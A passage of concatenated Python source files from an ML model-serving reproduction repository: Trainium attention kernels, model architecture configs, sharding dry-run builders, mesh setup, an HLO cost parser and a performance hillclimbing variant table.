table + lengths) and performs the cheap integer prep (token-row indices,
additive length mask, layout transposes) in JAX before handing the hot loop
to the Trainium kernel.  On CPU the kernel executes under CoreSim.
"""
from __future__ import annotations

import jax.numpy as jnp
import numpy as np


def _round_up(x: int, m: int) -> int:
    return ((x + m - 1) // m) * m


def paged_decode_attention(q, k_pool, v_pool, block_table, lengths):
    """Paged GQA decode attention on Trainium.

    q            [B, H, hd] (any float dtype; computed in fp32)
    k_pool/v_pool [NB, bs, KV, hd] with bs == 128 (the SBUF-native block)
    block_table  [B, max_blocks] int32
    lengths      [B] int32
    returns      [B, H, hd] fp32
    """
    from repro.kernels.paged_attention import P, decode_attention_call

    B, H, hd = q.shape
    NB, bs, KV, hd2 = k_pool.shape
    assert hd == hd2 and bs == P, \
        f"Trainium paged KV uses {P}-token blocks, got {bs}"

    S_max = block_table.shape[1] * bs
    token_idx = (block_table.astype(jnp.int32)[:, :, None] * bs
                 + jnp.arange(bs, dtype=jnp.int32)[None, None, :]
                 ).reshape(B, S_max)
    # clamp OOB ids (masked anyway) so the gather never faults
    token_idx = jnp.clip(token_idx, 0, NB * bs - 1)
    neg_mask = jnp.where(
        jnp.arange(S_max, dtype=jnp.int32)[None, :] < lengths[:, None],
        0.0, -1.0e30).astype(jnp.float32)

    q_t = jnp.transpose(q.astype(jnp.float32), (0, 2, 1))     # [B, hd, H]
    kp = k_pool.astype(jnp.float32).reshape(NB * bs, KV * hd)
    vp = v_pool.astype(jnp.float32).reshape(NB * bs, KV * hd)
    (o,) = decode_attention_call(q_t, kp, vp, token_idx, neg_mask,
                                 num_kv_heads=KV)
    return o


def rmsnorm(x, scale, eps: float = 1e-5):
    """Fused RMSNorm on Trainium: x [..., D] (any leading dims)."""
    from repro.kernels.rmsnorm import P, rmsnorm_call

    shape = x.shape
    D = shape[-1]
    x2 = x.astype(jnp.float32).reshape(-1, D)
    n = x2.shape[0]
    pad = (-n) % P
    if pad:
        x2 = jnp.concatenate(
            [x2, jnp.ones((pad, D), jnp.float32)], axis=0)
    (o,) = rmsnorm_call(x2, scale.astype(jnp.float32), eps)
    return o[:n].reshape(shape)
