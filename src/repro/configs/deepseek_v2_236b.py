"""DeepSeek-V2 236B — MoE with Multi-head Latent Attention. [arXiv:2405.04434]

60L d_model=5120 128H MLA(kv_lora=512, rope=64, nope=128, v=128)
MoE: 2 shared + 160 routed top-6, expert d_ff=1536; first layer dense FFN.
"""
from repro.models.config import ModelConfig, MoEConfig, MLAConfig, SubLayer

CONFIG = ModelConfig(
    name="deepseek-v2-236b",
    family="moe",
    num_layers=60,
    d_model=5120,
    num_heads=128,
    num_kv_heads=128,
    head_dim=128,           # v head dim; qk dims come from MLAConfig
    d_ff=12288,             # the single dense first layer
    vocab_size=102400,
    prefix=(SubLayer("attn", "dense"),),
    period=(SubLayer("attn", "moe"),),
    mla=MLAConfig(kv_lora_rank=512, q_lora_rank=1536,
                  qk_rope_dim=64, qk_nope_dim=128, v_head_dim=128),
    moe=MoEConfig(num_experts=160, top_k=6, d_ff_expert=1536,
                  num_shared_experts=2),
    rope_theta=10_000.0,
    citation="arXiv:2405.04434",
)
