"""Qwen2-VL 7B — VLM language backbone with M-RoPE. [arXiv:2409.12191]

Vision frontend is a STUB: ``input_specs`` provides precomputed patch
embeddings (width 1280) plus 3D (t,h,w) position ids consumed by M-RoPE.
"""
from repro.models.config import ModelConfig

CONFIG = ModelConfig(
    name="qwen2-vl-7b",
    family="vlm",
    num_layers=28,
    d_model=3584,
    num_heads=28,
    num_kv_heads=4,
    d_ff=18944,
    vocab_size=152064,
    rope_theta=1_000_000.0,
    mrope_sections=(16, 24, 24),
    vision_embed_dim=1280,
    citation="arXiv:2409.12191",
)
