"""Whisper medium — encoder-decoder audio model. [arXiv:2212.04356]

The mel-spectrogram + conv frontend and the audio encoder stack are STUBBED:
``input_specs`` provides 1500 precomputed encoder frame embeddings; we build
the full text decoder (causal self-attn with KV cache + cross-attn with
static encoder KV).  Learned positional embeddings; plain GELU MLP.
"""
from repro.models.config import ModelConfig

CONFIG = ModelConfig(
    name="whisper-medium",
    family="audio",
    num_layers=24,
    d_model=1024,
    num_heads=16,
    num_kv_heads=16,
    d_ff=4096,
    vocab_size=51865,
    use_rope=False,
    cross_attention=True,
    num_encoder_frames=1500,
    act="gelu",
    max_position_embeddings=32768,
    citation="arXiv:2212.04356",
)
