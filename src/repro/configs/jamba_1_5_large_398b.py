"""Jamba-1.5 Large 398B — hybrid Mamba+attention 7:1 with MoE. [arXiv:2403.19887]

72 layers = 9 scanned super-blocks of period 8: attention at period index 3,
Mamba elsewhere; MoE (16 experts, top-2) at odd period indices, dense FFN at
even ones.
"""
from repro.models.config import ModelConfig, MoEConfig, SSMConfig, SubLayer

_PERIOD = tuple(
    SubLayer("attn" if j == 3 else "mamba", "moe" if j % 2 == 1 else "dense")
    for j in range(8)
)

CONFIG = ModelConfig(
    name="jamba-1.5-large-398b",
    family="hybrid",
    num_layers=72,
    d_model=8192,
    num_heads=64,
    num_kv_heads=8,
    d_ff=24576,
    vocab_size=65536,
    period=_PERIOD,
    moe=MoEConfig(num_experts=16, top_k=2, d_ff_expert=24576),
    ssm=SSMConfig(d_state=128, d_conv=4, expand=2, head_dim=128, n_groups=8,
                  chunk_size=256),
    use_rope=False,          # jamba uses no positional encoding in attn
    citation="arXiv:2403.19887",
)
