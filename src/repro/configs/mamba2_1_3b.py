"""Mamba2 1.3B — attention-free SSM with SSD mixer. [arXiv:2405.21060]"""
from repro.models.config import ModelConfig, SSMConfig, SubLayer

CONFIG = ModelConfig(
    name="mamba2-1.3b",
    family="ssm",
    num_layers=48,
    d_model=2048,
    num_heads=1,            # unused (attention-free)
    num_kv_heads=1,
    d_ff=0,                 # mamba blocks have no separate FFN
    vocab_size=50280,
    period=(SubLayer("mamba", None),),
    ssm=SSMConfig(d_state=128, d_conv=4, expand=2, head_dim=64,
                  n_groups=1, chunk_size=256),
    tie_embeddings=True,
    citation="arXiv:2405.21060",
)
