"""Architecture registry: ``get_config(arch_id)`` / ``list_archs()``.

One module per assigned architecture; each exposes ``CONFIG``.  ``reduced()``
produces a smoke-test-sized member of the same family (<=2 layers,
d_model<=512, <=4 experts) for CPU tests.
"""
from __future__ import annotations

import dataclasses
import importlib

from repro.models.config import ModelConfig, MoEConfig, SSMConfig

ARCH_IDS = [
    "deepseek_v2_236b",
    "stablelm_1_6b",
    "qwen2_vl_7b",
    "mamba2_1_3b",
    "llama3_405b",
    "qwen3_14b",
    "whisper_medium",
    "llama3_2_1b",
    "llama4_scout_17b_a16e",
    "jamba_1_5_large_398b",
    # the paper's own served models
    "llama3_70b",
    "mixtral_8x7b",
]

_ALIASES = {
    "deepseek-v2-236b": "deepseek_v2_236b",
    "stablelm-1.6b": "stablelm_1_6b",
    "qwen2-vl-7b": "qwen2_vl_7b",
    "mamba2-1.3b": "mamba2_1_3b",
    "llama3-405b": "llama3_405b",
    "qwen3-14b": "qwen3_14b",
    "whisper-medium": "whisper_medium",
    "llama3.2-1b": "llama3_2_1b",
    "llama4-scout-17b-a16e": "llama4_scout_17b_a16e",
    "jamba-1.5-large-398b": "jamba_1_5_large_398b",
    "llama3-70b": "llama3_70b",
    "mixtral-8x7b": "mixtral_8x7b",
}


def canonical(arch: str) -> str:
    return _ALIASES.get(arch, arch.replace("-", "_").replace(".", "_"))


def get_config(arch: str) -> ModelConfig:
    mod = importlib.import_module(f"repro.configs.{canonical(arch)}")
    return mod.CONFIG


def list_archs() -> list[str]:
    return list(ARCH_IDS)


def reduced(cfg: ModelConfig) -> ModelConfig:
    """Shrink a config to a smoke-testable member of the same family."""
    period = len(cfg.period)
    num_layers = len(cfg.prefix) + period * max(1, 2 // period)
    d_model = min(cfg.d_model, 256)
    heads = 4
    kv = min(cfg.num_kv_heads, heads)
    kv = 2 if cfg.num_kv_heads < cfg.num_heads else heads
    kw = dict(
        num_layers=num_layers,
        d_model=d_model,
        num_heads=heads,
        num_kv_heads=kv,
        head_dim=64,
        d_ff=0 if cfg.d_ff == 0 else 512,
        vocab_size=512,
        num_encoder_frames=16 if cfg.num_encoder_frames else 0,
        vision_embed_dim=64 if cfg.vision_embed_dim else 0,
    )
    if cfg.mrope_sections is not None:
        kw["mrope_sections"] = (8, 12, 12)   # sums to head_dim/2 = 32
    if cfg.moe is not None:
        kw["moe"] = dataclasses.replace(
            cfg.moe,
            num_experts=4,
            top_k=min(cfg.moe.top_k, 2),
            d_ff_expert=128,
            num_shared_experts=min(cfg.moe.num_shared_experts, 1),
            # dropless capacity so prefill/decode equality tests are exact
            capacity_factor=4.0,
        )
    if cfg.ssm is not None:
        kw["ssm"] = dataclasses.replace(
            cfg.ssm, d_state=16, head_dim=32, chunk_size=32)
    if cfg.mla is not None:
        kw["mla"] = dataclasses.replace(
            cfg.mla, kv_lora_rank=64, q_lora_rank=96,
            qk_rope_dim=16, qk_nope_dim=48, v_head_dim=64)
        kw["head_dim"] = 64
    return cfg.with_(**kw)
