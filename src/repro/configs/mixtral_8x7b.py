"""Mixtral 8x7B — MoE served by the paper. [Jia+23 / paper Table 2]"""
from repro.models.config import ModelConfig, MoEConfig, SubLayer

CONFIG = ModelConfig(
    name="mixtral-8x7b",
    family="moe",
    num_layers=32,
    d_model=4096,
    num_heads=32,
    num_kv_heads=8,
    d_ff=14336,
    vocab_size=32000,
    period=(SubLayer("attn", "moe"),),
    moe=MoEConfig(num_experts=8, top_k=2, d_ff_expert=14336,
                  normalize_topk=True),
    rope_theta=1_000_000.0,
    citation="arXiv:2401.04088",
)
