"""Qwen3 14B — dense GQA with per-head qk RMSNorm. [hf:Qwen/Qwen3-8B family]"""
from repro.models.config import ModelConfig

CONFIG = ModelConfig(
    name="qwen3-14b",
    family="dense",
    num_layers=40,
    d_model=5120,
    num_heads=40,
    num_kv_heads=8,
    head_dim=128,
    d_ff=17408,
    vocab_size=151936,
    rope_theta=1_000_000.0,
    qk_norm=True,
    citation="hf:Qwen/Qwen3-8B",
)
