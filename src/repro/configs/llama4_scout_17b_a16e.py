"""Llama-4 Scout 17B-active 16E — MoE, top-1 routing + shared expert.
[hf:meta-llama/Llama-4-Scout-17B-16E]"""
from repro.models.config import ModelConfig, MoEConfig, SubLayer

CONFIG = ModelConfig(
    name="llama4-scout-17b-a16e",
    family="moe",
    num_layers=48,
    d_model=5120,
    num_heads=40,
    num_kv_heads=8,
    head_dim=128,
    d_ff=8192,
    vocab_size=202048,
    period=(SubLayer("attn", "moe"),),
    moe=MoEConfig(num_experts=16, top_k=1, d_ff_expert=8192,
                  num_shared_experts=1, normalize_topk=False),
    rope_theta=500_000.0,
    citation="hf:meta-llama/Llama-4-Scout-17B-16E",
)
