"""Llama-3.1 70B — the paper's flagship served model. [AIM24]"""
from repro.models.config import ModelConfig

CONFIG = ModelConfig(
    name="llama3-70b",
    family="dense",
    num_layers=80,
    d_model=8192,
    num_heads=64,
    num_kv_heads=8,
    d_ff=28672,
    vocab_size=128256,
    rope_theta=500_000.0,
    citation="arXiv:2407.21783 / paper Table 2",
)
