"""Sharded step builders + abstract inputs for the multi-pod dry-run.

Everything here works on ``jax.ShapeDtypeStruct``s carrying ``NamedSharding``
— no arrays are ever allocated, which is what lets the 405B configs lower on
a CPU-only container.
"""
from __future__ import annotations

from dataclasses import dataclass
from functools import partial
from typing import Any, Optional

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P

from repro.models import forward, logits_last, param_defs
from repro.models.config import ModelConfig
from repro.models.model import cache_defs
from repro.models.params import (
    SERVE_RULES, TRAIN_RULES, abstract, shardings, spec_for, tree_map_defs)
from repro.launch.shapes import InputShape, auto_microbatches
from repro.train import AdamWConfig, OptState, make_train_step


def _ns(mesh: Mesh, *spec) -> NamedSharding:
    return NamedSharding(mesh, P(*spec))


def _batch_axes(mesh: Mesh, batch: int):
    axes = [a for a in ("pod", "data") if a in mesh.shape]
    group = int(np.prod([mesh.shape[a] for a in axes])) if axes else 1
    if axes and batch % group == 0:
        return tuple(axes), group
    return (), 1


def _sds(shape, dtype, sharding):
    return jax.ShapeDtypeStruct(shape, dtype, sharding=sharding)


def extras_specs(cfg: ModelConfig, mesh: Mesh, batch: int, seq: int,
                 mode: str) -> dict:
    """ShapeDtypeStructs for modality inputs (the frontend STUBS)."""
    baxes, _ = _batch_axes(mesh, batch)
    bspec = baxes if baxes else None
    ex = {}
    if cfg.vision_embed_dim:
        ex["patch_embeds"] = _sds((batch, seq, cfg.vision_embed_dim),
                                  jnp.bfloat16, _ns(mesh, bspec))
        ex["vision_mask"] = _sds((batch, seq), jnp.bool_, _ns(mesh, bspec))
        ex["mrope_positions"] = _sds((batch, seq, 3), jnp.int32,
                                     _ns(mesh, bspec))
    if cfg.cross_attention and mode != "decode":
        ex["encoder_frames"] = _sds(
            (batch, cfg.num_encoder_frames, cfg.d_model), jnp.bfloat16,
            _ns(mesh, bspec))
    return ex


# ---------------------------------------------------------------------------
# train
# ---------------------------------------------------------------------------

@dataclass
class DryrunBundle:
    fn: Any                  # jitted function
    args: tuple              # ShapeDtypeStruct pytrees
    meta: dict


def build_train(cfg: ModelConfig, mesh: Mesh, shape: InputShape,
                rules=None, microbatches: Optional[int] = None,
                seq_shard: bool = False) -> DryrunBundle:
    rules = dict(TRAIN_RULES if rules is None else rules)
    defs = param_defs(cfg)
    pshard = shardings(defs, mesh, rules)
    params = abstract(defs, jnp.bfloat16, pshard)
    m_tree = abstract(defs, jnp.float32, pshard)
    opt = OptState(
        _sds((), jnp.int32, _ns(mesh)), m_tree,
        abstract(defs, jnp.float32, pshard))

    baxes, group = _batch_axes(mesh, shape.global_batch)
    if microbatches is None:
        microbatches = auto_microbatches(
            cfg, group, shape.global_batch, shape.seq_len)
    mb = shape.global_batch // microbatches
    bspec = baxes if baxes else None
    if microbatches > 1:
        tok_sds = _sds((microbatches, mb, shape.seq_len + 1), jnp.int32,
                       _ns(mesh, None, bspec))
    else:
        tok_sds = _sds((mb, shape.seq_len + 1), jnp.int32, _ns(mesh, bspec))
    batch = {"tokens": tok_sds}
    # modality extras (VLM patch embeds, audio encoder frames) share the
    # microbatch layout of the tokens
    ex = extras_specs(cfg, mesh, mb, shape.seq_len, "train")
    for k, v in ex.items():
        if microbatches > 1:
            spec = (None, *v.sharding.spec)
            batch[k] = _sds((microbatches, *v.shape), v.dtype,
                            _ns(mesh, *spec))
        else:
            batch[k] = v

    opt_cfg = AdamWConfig()
    step = make_train_step(cfg, opt_cfg, microbatches=microbatches)
    fn = jax.jit(step, donate_argnums=(0, 1))
    return DryrunBundle(fn, (params, opt, batch),
                        {"microbatches": microbatches,
                         "mode": "train", "rules": "train"})


# ---------------------------------------------------------------------------
# serve (prefill / decode)
# ---------------------------------------------------------------------------

def _cache_specs(cfg, mesh, batch, seq, rules):
    cdefs = cache_defs(cfg, batch, seq)
    cshard = shardings(cdefs, mesh, rules)
    # cache dtype: fp32 for ssm states, bf16 otherwise
    return jax.tree.map(
        lambda d, s: _sds(d.shape,
                          jnp.float32 if d.dtype == "state" else jnp.bfloat16,
                          s),
        cdefs, cshard, is_leaf=lambda x: hasattr(x, "dims")), cdefs


def build_prefill(cfg: ModelConfig, mesh: Mesh, shape: InputShape,
                  rules=None) -> DryrunBundle:
    rules = dict(SERVE_RULES if rules is None else rules)
    defs = param_defs(cfg)
    params = abstract(defs, jnp.bfloat16, shardings(defs, mesh, rules))
    B, S = shape.global_batch, shape.seq_len
    baxes, _ = _batch_axes(mesh, B)
    bspec = baxes if baxes else None
    cache, _ = _cache_specs(cfg, mesh, B, S, rules)
    tokens = _sds((B, S), jnp.int32, _ns(mesh, bspec))
    extras = extras_specs(cfg, mesh, B, S, "prefill")

    def prefill_step(params, cache, tokens, extras):
        B, S = tokens.shape
        pos = jnp.broadcast_to(jnp.arange(S)[None], (B, S))
        hidden, cache, _ = forward(cfg, params, tokens, positions=pos,
                                   mode="prefill", cache=cache,
                                   extras=extras)
        return logits_last(cfg, params, hidden), cache

    fn = jax.jit(prefill_step, donate_argnums=(1,))
    return DryrunBundle(fn, (params, cache, tokens, extras),
                        {"mode": "prefill", "rules": "serve"})


def build_decode(cfg: ModelConfig, mesh: Mesh, shape: InputShape,
                 rules=None) -> DryrunBundle:
    rules = dict(SERVE_RULES if rules is None else rules)
    defs = param_defs(cfg)
    params = abstract(defs, jnp.bfloat16, shardings(defs, mesh, rules))
    B, S = shape.global_batch, shape.seq_len
    baxes, _ = _batch_axes(mesh, B)
    bspec = baxes if baxes else None
    cache, _ = _cache_specs(cfg, mesh, B, S, rules)
    tokens = _sds((B, 1), jnp.int32, _ns(mesh, bspec))
    positions = _sds((B,), jnp.int32, _ns(mesh, bspec))
    extras = extras_specs(cfg, mesh, B, 1, "decode")

    def decode_step(params, cache, tokens, positions, extras):
        hidden, cache, _ = forward(cfg, params, tokens, positions=positions,
                                   mode="decode", cache=cache, extras=extras)
        return logits_last(cfg, params, hidden), cache

    fn = jax.jit(decode_step, donate_argnums=(1,))
    return DryrunBundle(fn, (params, cache, tokens, positions, extras),
                        {"mode": "decode", "rules": "serve"})


def build_bundle(cfg: ModelConfig, mesh: Mesh, shape: InputShape,
                 **kw) -> DryrunBundle:
    if shape.kind == "train":
        return build_train(cfg, mesh, shape, **kw)
    if shape.kind == "prefill":
        return build_prefill(cfg, mesh, shape, **kw)
    return build_decode(cfg, mesh, shape, **kw)
