"""Production mesh construction.

Single pod: 128 chips as (data=8, tensor=4, pipe=4).
Multi-pod:  2 pods = 256 chips as (pod=2, data=8, tensor=4, pipe=4).

A FUNCTION, not a module constant — importing this module never touches jax
device state (the dry-run sets XLA_FLAGS before any jax initialization).
"""
from __future__ import annotations

import jax


def make_production_mesh(*, multi_pod: bool = False):
    shape = (2, 8, 4, 4) if multi_pod else (8, 4, 4)
    axes = ("pod", "data", "tensor", "pipe") if multi_pod else (
        "data", "tensor", "pipe")
    n = 1
    for s in shape:
        n *= s
    devices = jax.devices()[:n]
    if len(devices) < n:
        raise RuntimeError(
            f"need {n} devices, have {len(devices)}; the dry-run entrypoint "
            "must set XLA_FLAGS=--xla_force_host_platform_device_count=512 "
            "before importing jax")
    import numpy as np
    return jax.sharding.Mesh(np.array(devices).reshape(shape), axes)


def make_tp_mesh(tp: int):
    """1-D ``tensor`` mesh over the first ``tp`` devices (serving TP).

    The serving engine shards weights and paged KV pools over this single
    axis (``Engine(mesh=make_tp_mesh(tp), tp=tp)`` — see ``serve.py --tp``).
    On CPU hosts the devices come from
    ``XLA_FLAGS=--xla_force_host_platform_device_count=N``.
    """
    devices = jax.devices()[:tp]
    if len(devices) < tp:
        raise RuntimeError(
            f"--tp {tp} needs {tp} devices, have {len(jax.devices())}; on "
            "CPU set XLA_FLAGS=--xla_force_host_platform_device_count="
            f"{tp} before importing jax")
    import numpy as np
    return jax.sharding.Mesh(np.array(devices).reshape(tp), ("tensor",))


def make_test_mesh(shape=(1, 1, 1), axes=("data", "tensor", "pipe")):
    """1-device mesh for CPU smoke tests of the sharded code paths."""
    import numpy as np
    return jax.sharding.Mesh(
        np.array(jax.devices()[:1]).reshape(shape), axes)
