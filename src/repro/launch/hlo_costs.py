"""Per-device cost extraction from optimized HLO text, with correct
``lax.scan`` accounting.

XLA's ``compiled.cost_analysis()`` counts each ``while`` body ONCE, so for
scan-over-layers models (and grad-accumulation microbatching, and the
chunked-xent scan) it under-reports flops/bytes by the trip counts — up to
~4000x for llama3-405b train.  This module re-derives the three roofline
inputs by walking the HLO text:

  * flops: every ``dot`` contributes 2 x numel(output) x contraction size
    (elementwise flops are ignored — they are bandwidth, not compute,
    bound on every current accelerator);
  * bytes: per-op operand+output sizes for ops at computation scope
    (fused computations contribute their fusion op's operands/outputs only,
    mirroring what fusion actually does to HBM traffic);
  * collective bytes: result sizes of all-reduce / all-gather /
    reduce-scatter / all-to-all / collective-permute (all-reduce weighted
    2x for reduce+broadcast).

``while`` bodies are multiplied by their trip count, parsed from the loop
condition's comparison constant.  All shapes in the post-SPMD module are
per-device, so the totals divide by per-chip peaks directly.
"""
from __future__ import annotations

import re
from dataclasses import dataclass, field

_DTYPE_BYTES = {
    "pred": 1, "s8": 1, "u8": 1, "s16": 2, "u16": 2, "s32": 4, "u32": 4,
    "s64": 8, "u64": 8, "f16": 2, "bf16": 2, "f32": 4, "f64": 8,
    "c64": 8, "c128": 16, "f8e4m3fn": 1, "f8e5m2": 1, "s4": 1, "u4": 1,
}

_SHAPE_RE = re.compile(r"([a-z][a-z0-9]*)\[([\d,]*)\]")
_HEADER_RE = re.compile(r"^(ENTRY\s+)?%([^\s(]+)\s*\(([^)]*)\)", re.M)
_OP_RE = re.compile(
    r"^\s*(?:ROOT\s+)?%([^\s=]+)\s*=\s*((?:\([^)]*\))|(?:\S+))\s+"
    r"([a-z][a-z0-9\-]*)\(")
_CALL_RE = re.compile(
    r"(condition|body|calls|to_apply|branch_computations)="
    r"(\{[^}]*\}|%[\w.\-]+)")
_COLL_KINDS = ("all-reduce", "all-gather", "reduce-scatter", "all-to-all",
               "collective-permute")
_COLL_WEIGHT = {"all-reduce": 2.0, "all-gather": 1.0, "reduce-scatter": 1.0,
                "all-to-all": 1.0, "collective-permute": 1.0}

# ops whose line-level byte accounting would double count or is not memory
_SKIP_BYTES = {
    "parameter", "constant", "tuple", "get-tuple-element", "bitcast",
    "after-all", "partition-id", "while", "conditional", "call",
    "copy-start", "copy-done", "iota", "reshape", "broadcast",
}


def _shape_dims(type_str: str) -> tuple[str, list[int]]:
    m = _SHAPE_RE.search(type_str)
    if not m:
        return "", []
    dtype, dims = m.group(1), m.group(2)
    return dtype, [int(d) for d in dims.split(",")] if dims else []


def _type_bytes(type_str: str) -> int:
    total = 0
    for dtype, dims in _SHAPE_RE.findall(type_str):
        if dtype not in _DTYPE_BYTES:
            continue
        n = 1
        if dims:
            for d in dims.split(","):
                n *= int(d)
        total += n * _DTYPE_BYTES[dtype]
    return total


@dataclass
class Computation:
    name: str
    entry: bool = False
    flops: float = 0.0
    bytes: float = 0.0
    coll: dict = field(default_factory=dict)
    # (kind, child_name) with kind in {'while', 'flops_only'}
    children: list = field(default_factory=list)
    while_bodies: list = field(default_factory=list)  # (body, cond)
    max_int_const: int = 0


def _split_computations(text: str) -> list[tuple[str, bool, str, list[str]]]:
    """Returns (name, is_entry, params_str, body_lines) per computation."""
    out = []
    cur = None
    for line in text.splitlines():
        m = _HEADER_RE.match(line)
        if m and ("->" in line) and line.rstrip().endswith("{"):
            cur = (m.group(2), bool(m.group(1)), m.group(3), [])
            out.append(cur)
        elif cur is not None:
            if line.startswith("}"):
                cur = None
            else:
                cur[3].append(line)
    return out


def parse_computations(text: str) -> dict[str, Computation]:
    comps: dict[str, Computation] = {}
    for name, entry, params_str, lines in _split_computations(text):
        c = Computation(name, entry)
        symtab: dict[str, str] = {}
        # computation parameters: "p.1: f32[4,8], p.2: bf16[2]"
        for pm in re.finditer(r"([\w.\-]+)\s*:\s*((?:\([^)]*\))|[^,)]+)",
                              params_str):
            symtab[pm.group(1)] = pm.group(2)

        for line in lines:
            om = _OP_RE.match(line)
            if not om:
                continue
            op_name, out_type, opcode = om.groups()
            symtab[op_name] = out_type

            for cm in _CALL_RE.finditer(line):
                kind, ref = cm.groups()
                names = re.findall(r"%([\w.\-]+)", ref)
                if kind == "body":
                    body = names[0]
                elif kind == "condition":
                    cond = names[0]
                else:
                    for n in names:
                        c.children.append(("flops_only", n))
            if opcode == "while":
                cm = _CALL_RE.findall(line)
                body = cond = None
                for kind, ref in cm:
                    n = re.findall(r"%([\w.\-]+)", ref)
                    if kind == "body":
                        body = n[0]
                    if kind == "condition":
                        cond = n[0]
                if body:
                    c.while_bodies.append((body, cond))

            # integer constants (for trip counts in loop conditions)
            for k in re.finditer(r"constant\((\d+)\)", line):
                c.max_int_const = max(c.max_int_const, int(k.group(1)))

            # collectives
            for kind in _COLL_KINDS:
                if re.search(rf"\s{kind}(?:-start)?\(", line):
                    b = _type_bytes(out_type) * _COLL_WEIGHT[kind]
                    c.coll[kind] = c.coll.get(kind, 0.0) + b
                    break

            # dot flops
            if opcode == "dot":
                args = re.search(r"dot\(([^)]*)\)", line)
                km = re.search(r"lhs_contracting_dims=\{([\d,]*)\}", line)
                if args and km:
                    operands = re.findall(r"%([\w.\-]+)", args.group(1))
                    lhs_type = symtab.get(operands[0], "") if operands \
                        else ""
                    _, lhs_dims = _shape_dims(lhs_type)
                    _, out_dims = _shape_dims(out_type)
                    kprod = 1
                    for i in km.group(1).split(","):
                        if i != "" and int(i) < len(lhs_dims):
                            kprod *= lhs_dims[int(i)]
                    numel = 1
                    for d in out_dims:
                        numel *= d
                    c.flops += 2.0 * numel * kprod

            # bytes: output + operands at this scope
            if opcode not in _SKIP_BYTES:
                b = _type_bytes(out_type)
                args = re.search(rf"{re.escape(opcode)}\(([^)]*)\)", line)
                if args:
                    for opnd in re.findall(r"%([\w.\-]+)", args.group(1)):
                        b += _type_bytes(symtab.get(opnd, ""))
                c.bytes += b

        comps[name] = c
    return comps


def total_costs(text: str) -> dict:
    """Evaluate the entry computation with while-trip multiplication."""
    comps = parse_computations(text)
    entry = next((c for c in comps.values() if c.entry), None)
    if entry is None:
        return {"flops": 0.0, "bytes": 0.0, "coll": {"total": 0.0},
                "trips": {}}
    memo: dict[tuple[str, bool], tuple] = {}
    trips_seen: dict[str, int] = {}

    def ev(name: str, flops_only: bool, stack=()):
        if name in stack or name not in comps:
            return 0.0, 0.0, {}
        key = (name, flops_only)
        if key in memo:
            return memo[key]
        c = comps[name]
        fl, by = c.flops, 0.0 if flops_only else c.bytes
        co: dict[str, float] = {} if flops_only else dict(c.coll)
        for kind, child in c.children:
            cf, cb, cc = ev(child, True, stack + (name,))
            fl += cf            # fused/applied comps: flops only
        for body, cond in c.while_bodies:
            limit = max(comps.get(cond, Computation(cond)).max_int_const, 1)
            # XLA's wide-loop transform nests scans: the outer loop steps
            # by the inner loop's trip count, so its condition limit is the
            # TOTAL trip count.  Divide by the largest directly-nested
            # inner limit to get the outer's own trips.
            inner = [max(comps.get(ic, Computation(ic)).max_int_const, 1)
                     for _, ic in comps.get(body,
                                            Computation(body)).while_bodies]
            step = max(inner) if inner else 1
            trips = limit // step if (step > 1 and limit % step == 0) \
                else limit
            trips_seen[body] = trips
            bf, bb, bc = ev(body, flops_only, stack + (name,))
            fl += trips * bf
            by += trips * bb
            for k, v in bc.items():
                co[k] = co.get(k, 0.0) + trips * v
        memo[key] = (fl, by, co)
        return memo[key]

    fl, by, co = ev(entry.name, False)
    co["total"] = sum(v for k, v in co.items() if k != "total")
    return {"flops": fl, "bytes": by, "coll": co, "trips": trips_seen}
