"""§Perf hillclimbing driver: named sharding/microbatch variants, re-lower,
re-derive the roofline terms, and diff against the recorded baseline.

    PYTHONPATH=src python -m repro.launch.hillclimb \
        --arch deepseek-v2-236b --shape prefill_32k \
        --variant serve_embed_replicated

Each variant is a small, named transformation of the logical→mesh rule
table (or the microbatch depth) — one hypothesis per run; results append
to experiments/hillclimb/<arch>__<shape>.jsonl.
"""
# The 512-device override MUST precede any jax import (see dryrun.py).
import os
os.environ["XLA_FLAGS"] = "--xla_force_host_platform_device_count=512"

import argparse
import json

from repro.launch.dryrun import run_one
from repro.models.params import SERVE_RULES, TRAIN_RULES


def _rules(base, **updates):
    r = dict(base)
    r.update(updates)
    return r


# name -> (overrides dict for build_bundle, hypothesis string)
VARIANTS = {
    "baseline": ({}, "paper-faithful baseline (TRAIN_RULES/SERVE_RULES)"),

    # ---- training variants ----
    "train_vocab_unsharded": (
        {"rules": _rules(TRAIN_RULES, vocab=())},
        "the vocab-sharded embedding gather forces an involuntary full "
        "rematerialization (SPMD warning) — replicating the vocab dim "
        "trades a bigger all-gather-free embed for removing the gather "
        "resharding; expect lower collective + memory terms for "
        "small-d_model models"),
    "train_embed_tensor": (
        {"rules": _rules(TRAIN_RULES, embed=("tensor",),
                         vocab=("pipe", "data"))},
        "swap the 2D weight-shard axes: model dim over tensor (matches "
        "the contraction axis of most matmuls) and vocab over the FSDP "
        "group; expect fewer transposing reshards around attention/mlp"),
    "train_mb_half": (
        {"microbatches": "half"},
        "halve grad-accumulation depth: fewer parameter re-gathers per "
        "step (collective term down ~2x) at 2x the activation memory"),
    "train_mb_double": (
        {"microbatches": "double"},
        "double grad-accumulation depth: smaller microbatch activations "
        "(memory term down) at more parameter traffic"),

    "train_moe_ep": (
        {"rules": _rules(TRAIN_RULES, embed=("tensor",),
                         vocab=("pipe", "data"),
                         experts=("pipe", "data"))},
        "on top of the embed-over-tensor win: shard the expert dim over "
        "the 32-wide pipe x data group (expert parallelism) instead of "
        "leaving experts on the occupied tensor axis — per-device expert "
        "weight/optimizer traffic drops ~8x; dispatch becomes all-to-all "
        "over the wider group, so collective term may rise"),
    "train_embed_tensor_mb_half": (
        {"rules": _rules(TRAIN_RULES, embed=("tensor",),
                         vocab=("pipe", "data")),
         "microbatches": "half"},
        "compose the embed-over-tensor win with half the grad-accum "
        "depth: the +73% collective regression of embed_tensor should "
        "partially amortize (per-microbatch activation collectives halve)"),

    "train_moe_ep_mb_half": (
        {"rules": _rules(TRAIN_RULES, embed=("tensor",),
                         vocab=("pipe", "data"),
                         experts=("pipe", "data")),
         "microbatches": "half"},
        "compose the expert-parallel win with half grad-accum depth: "
        "deepseek's embed_tensor+mb_half run showed memory drops another "
        "~20% from fewer per-microbatch fixed activations"),

    "train_moe_ep_novocab": (
        {"rules": _rules(TRAIN_RULES, embed=("tensor",), vocab=(),
                         experts=("pipe", "data"))},
        "attack the post-EP collective bottleneck: replicate the vocab "
        "dim so the xent logits all-reduce over tensor disappears "
        "(traded for bigger embedding reads)"),

    # ---- serving variants ----
